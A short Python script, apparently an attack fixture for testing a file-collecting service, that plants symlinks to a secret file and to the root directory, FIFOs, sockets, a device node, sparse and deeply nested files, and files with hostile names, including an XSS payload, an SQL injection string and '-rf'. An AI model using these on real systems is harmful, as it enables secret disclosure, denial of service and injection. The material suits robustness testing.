# attack: links, pipes, sockets, holes, deep folders and hostile names are left where the site collects files
# limit: 15
# ends: done
import json, os, socket
CFG = json.load(open("attack.json"))
def leave(name, make):
    try:
        make(name)
    except (OSError, ValueError) as e:
        print(ascii(name), e)
def text(name):
    with open(name, "wb") as f:
        f.write(b"left\n")
def hole(name):
    with open(name, "wb") as f:
        f.truncate(30 << 20)
def many(name):
    os.mkdir(name)
    for n in range(1000):
        text("%s/%d" % (name, n))
def deep(name):
    here = os.getcwd()
    os.mkdir(name)
    os.chdir(name)
    for n in range(1500):
        os.mkdir("d")
        os.chdir("d")
    os.chdir(here)
def closed(name):
    text(name)
    os.chmod(name, 0)
leave("good.txt", text)
leave("pipe.txt", os.mkfifo)
leave("socket.txt", lambda name: socket.socket(socket.AF_UNIX).bind(name))
leave("hard.txt", lambda name: os.link("good2.txt", name) if text("good2.txt") is None else None)
leave("to_secret.txt", lambda name: os.symlink(CFG["secret_file"], name))
leave("to_home", lambda name: os.symlink("/", name))
leave("to_fd.txt", lambda name: os.symlink("/proc/self/fd/0", name))
leave("device", lambda name: os.mknod(name, 0o20666, os.makedev(1, 3)))
leave("hole.bin", hole)
leave("many", many)
leave("deep", deep)
leave("closed.txt", closed)
for name in ("two\nlines.txt", b"\xff\xfe.txt", "\ud800.txt", "n" * 255, "\u202etxt.yp", "-rf", "...", " ", "a\\b.txt", "CON", "\x07.txt",
             "<img src=x onerror=alert(1)>.txt", "'; DROP TABLE files;--"):
    leave(name, text)
print("done")
